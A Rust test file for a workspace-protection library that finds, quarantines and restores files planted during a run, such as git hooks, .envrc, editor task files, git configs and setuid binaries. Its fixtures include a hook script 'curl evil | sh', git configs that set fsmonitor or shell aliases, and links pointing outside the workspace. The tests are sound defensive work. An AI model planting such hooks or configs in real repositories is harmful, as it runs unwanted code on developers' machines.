//! What a run planted is put away, what was there stays, and everything can be put back.

mod support;

use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use stockade_workspace::{Finding, Kept, Reason, list, restore, scan};
use support::{HELD, OPEN, Place, put_away};

#[test]
fn a_scan_finds_the_top_most_protected_files() {
    let place = Place::new();
    place.repository(".git");
    place.file("a/.envrc", "");
    place.file(".husky/_/husky.sh", "");
    place.file("src/main.rs", "");
    place.file("deploy/hooks/x/y", "");
    symlink("/etc", place.workspace.join("a/.vscode")).expect("a link");
    let found = scan(&place.workspace, &place.rules, &place.home).expect("a scan");
    let expected = [".git/config", ".git/hooks", ".husky", "a/.envrc", "a/.vscode", "deploy/hooks"];
    assert_eq!(found, expected.map(|path| place.workspace.join(path)));
}

#[test]
fn a_bare_repository_is_protected_wherever_it_lies() {
    let place = Place::new();
    place.repository("vendor/looks-like-source");
    let found = scan(&place.workspace, &place.rules, &place.home).expect("a scan");
    let expected = ["vendor/looks-like-source/config", "vendor/looks-like-source/hooks"];
    assert_eq!(found, expected.map(|path| place.workspace.join(path)));
}

#[test]
fn what_a_git_configuration_names_is_protected() {
    let place = Place::new();
    place.repository(".git");
    place.file(".git/config", "[core]\n\thooksPath = tools/hooks\n[include]\n\tpath = ../shared.inc\n");
    place.file("tools/hooks/pre-commit", "");
    let found = scan(&place.workspace, &place.rules, &place.home).expect("a scan");
    assert!(found.contains(&place.workspace.join("tools/hooks")), "{found:?}");
    let before = place.before();
    place.file("shared.inc", "[core]\n\tfsmonitor = ./evil\n");
    assert_eq!(put_away(&place.sweep(&before, &HELD)), ["shared.inc"]);
}

#[test]
fn what_appears_is_put_away_and_can_be_put_back() {
    let place = Place::new();
    place.repository(".git");
    let before = place.before();
    let text = "#!/bin/sh\ncurl evil | sh\n";
    place.file(".claude/settings.json", text);
    place.file("pkg/.husky/pre-commit", text);
    place.file("pkg/.ENVRC", text);
    place.file("src/lib.rs", "");
    let swept = place.sweep(&before, &HELD);
    let paths = [".claude/settings.json", "pkg/.ENVRC", "pkg/.husky"];
    assert_eq!(put_away(&swept), paths);
    assert!(paths.iter().all(|path| !place.exists(path)));
    assert!(place.exists("src/lib.rs") && place.exists(".git/hooks/pre-commit.sample"));
    let Finding::PutAway { kept: Kept::Quarantine(kept), reason, .. } = &swept.findings[0] else { panic!("{swept:?}") };
    assert!(kept.starts_with(place.state.path()) && kept.symlink_metadata().is_ok(), "{kept:?}");
    assert_eq!(*reason, Reason::Appeared);

    let ids = list(&place.state).expect("a list");
    assert_eq!(ids.len(), 1);
    let restored = restore(&place.state, &ids[0]).expect("restored");
    assert!(restored.iter().all(|restored| restored.result.is_ok()), "{restored:?}");
    assert!(paths.iter().all(|path| place.exists(path)));
    assert_eq!(fs::read_to_string(place.workspace.join("pkg/.husky/pre-commit")).expect("text"), text);
    assert_eq!(list(&place.state).expect("a list"), Vec::<String>::new());
}

#[test]
fn restoring_replaces_nothing() {
    let place = Place::new();
    let before = place.before();
    place.file(".envrc", "planted");
    place.sweep(&before, &HELD);
    place.file(".envrc", "own");
    let id = &list(&place.state).expect("a list")[0];
    let restored = restore(&place.state, id).expect("restored");
    assert!(restored[0].result.is_err());
    assert_eq!(fs::read_to_string(place.workspace.join(".envrc")).expect("text"), "own");
    assert_eq!(list(&place.state).expect("a list").len(), 1);
    assert!(restore(&place.state, "../x").is_err() && restore(&place.state, "none").is_err());
}

#[test]
fn a_quiet_run_leaves_nothing_behind() {
    let place = Place::new();
    place.repository(".git");
    place.file(".envrc", "own");
    let before = place.before();
    place.file("src/x", "");
    place.file(".git/objects/ab/cdef", "");
    let swept = place.sweep(&before, &HELD);
    assert!(swept.findings.is_empty(), "{swept:?}");
    assert!(!place.state.path().exists());
}

#[test]
fn repositories_as_git_makes_them_stay_and_others_do_not() {
    let place = Place::new();
    let before = place.before();
    place.repository("clone/.git");
    place.file("clone/.git/config", "[remote \"origin\"]\n\turl = https://example.com/x\n");
    place.repository("evil-config/.git");
    place.file("evil-config/.git/config", "[core]\n\tfsmonitor = ./x\n");
    place.repository("evil-hook/.git");
    place.file("evil-hook/.git/hooks/pre-commit", "");
    place.repository("bare");
    place.file("bare/config", "[core]\n\tbare = true\n[alias]\n\tst = !sh\n");
    place.file("tree/HEAD", "ref: x\n");
    place.file("tree/commondir", "/tmp/evil\n");
    let swept = place.sweep(&before, &HELD);
    assert_eq!(put_away(&swept), ["bare/config", "evil-config/.git/config", "evil-hook/.git/hooks", "tree/commondir"]);
    assert!(place.exists("clone/.git/config") && place.exists("clone/.git/hooks"));
}

#[test]
fn a_swapped_parent_makes_everything_in_it_new() {
    let place = Place::new();
    place.repository(".git");
    let before = place.before();
    fs::rename(place.workspace.join(".git"), place.workspace.join("old")).expect("renamed");
    place.repository(".git");
    assert_eq!(put_away(&place.sweep(&before, &HELD)), Vec::<String>::new());
    place.file(".git/config", "[core]\n\tfsmonitor = evil\n");
    place.file(".git/hooks/pre-commit", "evil");
    let swept = place.sweep(&before, &HELD);
    assert_eq!(put_away(&swept), [".git/config", ".git/hooks"]);
    assert!(swept.findings.iter().all(|finding| matches!(finding, Finding::PutAway { reason: Reason::Replaced, .. })));
}

#[test]
fn what_could_not_be_held_is_compared() {
    let place = Place::new();
    place.repository(".git");
    place.file(".vscode/tasks.json", "{}");
    place.file(".envrc", "own");
    place.file("gone/.envrc", "own");
    let mut before = place.before();
    before.record_contents().expect("contents");
    place.file(".vscode/tasks.json", "{evil}");
    place.file(".vscode/settings.json", "{evil}");
    place.file(".git/hooks/pre-commit", "evil");
    place.file(".envrc", "changed");
    fs::remove_dir_all(place.workspace.join("gone")).expect("removed");
    let swept = place.sweep(&before, &OPEN);
    let expected = [".envrc", ".git/hooks/pre-commit", ".vscode/settings.json", ".vscode/tasks.json"];
    assert_eq!(put_away(&swept), expected);
    assert!(swept.findings.contains(&Finding::Removed { path: "gone/.envrc".into() }));
    assert!(place.exists(".git/hooks/pre-commit.sample"));
}

#[test]
fn a_person_who_edits_a_held_file_in_place_keeps_the_edit() {
    let place = Place::new();
    place.file(".envrc", "own");
    let before = place.before();
    place.file(".envrc", "edited");
    assert!(place.sweep(&before, &HELD).findings.is_empty());
}

#[test]
fn a_change_through_another_name_of_a_held_file_is_found() {
    let place = Place::new();
    let held = place.file(".envrc", "own");
    fs::hard_link(&held, place.workspace.join("alias")).expect("a link");
    let before = place.before();
    std::thread::sleep(std::time::Duration::from_millis(20));
    place.file("alias", "evil");
    let swept = place.sweep(&before, &HELD);
    assert!(
        matches!(&swept.findings[..], [Finding::PutAway { reason: Reason::ChangedThroughLink, .. }]),
        "{:?}",
        swept.findings
    );
}

#[test]
fn privilege_bits_are_taken_from_new_files_only() {
    let place = Place::new();
    let old = place.file("old", "");
    fs::set_permissions(&old, fs::Permissions::from_mode(0o4755)).expect("set");
    std::thread::sleep(std::time::Duration::from_millis(50));
    let before = place.before();
    let new = place.file("bin/new", "");
    fs::set_permissions(&new, fs::Permissions::from_mode(0o6111)).expect("set");
    let swept = place.sweep(&before, &HELD);
    assert_eq!(swept.findings, [Finding::BitsCleared { path: "bin/new".into(), mode: 0o106_111 }]);
    assert_eq!(new.metadata().expect("it").permissions().mode() & 0o7777, 0o111);
    assert_eq!(old.metadata().expect("it").permissions().mode() & 0o7777, 0o4755);
}

#[test]
fn links_are_put_away_as_links_and_nothing_outside_is_touched() {
    let place = Place::new();
    let outside = place.workspace.parent().expect("a parent").join("outside");
    fs::create_dir_all(outside.join("hooks")).expect("outside");
    fs::write(outside.join("config"), "precious").expect("outside");
    fs::write(outside.join("hooks/pre-commit"), "precious").expect("outside");
    let before = place.before();
    symlink(&outside, place.workspace.join(".git")).expect("a link");
    symlink(outside.join("config"), place.workspace.join(".envrc")).expect("a link");
    symlink(&outside, place.workspace.join(".github")).expect("a link");
    symlink(&outside, place.workspace.join("ordinary")).expect("a link");
    let swept = place.sweep(&before, &HELD);
    assert_eq!(put_away(&swept), [".envrc", ".git", ".github"]);
    assert!(place.exists("ordinary"));
    for path in ["config", "hooks/pre-commit"] {
        assert_eq!(fs::read_to_string(outside.join(path)).expect("it"), "precious");
    }
}

#[test]
fn odd_names_are_handled_like_any_other() {
    let place = Place::new();
    let before = place.before();
    let names: [&[u8]; 5] = [b"new\nline", b"\x1b[31mred", b"\xff\xfe", &[b'x'; 255], b" "];
    for name in names {
        let dir = place.workspace.join(Path::new(std::ffi::OsStr::from_bytes(name)));
        fs::create_dir(&dir).expect("a directory");
        fs::write(dir.join(".envrc"), "").expect("a file");
    }
    let swept = place.sweep(&before, &HELD);
    assert_eq!(swept.findings.len(), names.len());
    let id = &list(&place.state).expect("a list")[0];
    let restored = restore(&place.state, id).expect("restored");
    assert!(restored.iter().all(|restored| restored.result.is_ok()), "{restored:?}");
    for name in names {
        assert!(place.exists(Path::new(std::ffi::OsStr::from_bytes(name)).join(".envrc")));
    }
}

#[test]
fn the_same_path_may_be_caught_again() {
    let place = Place::new();
    let before = place.before();
    let mut quarantine = stockade_workspace::Quarantine::new(&place.state, &before);
    for text in ["one", "two"] {
        place.file("a/.envrc", text);
        let swept = stockade_workspace::sweep(&before, &place.rules, &HELD, &mut quarantine);
        let [Finding::PutAway { kept: Kept::Quarantine(kept), .. }] = &swept.findings[..] else { panic!("{swept:?}") };
        assert_eq!(fs::read_to_string(kept).expect("kept"), text);
    }
}
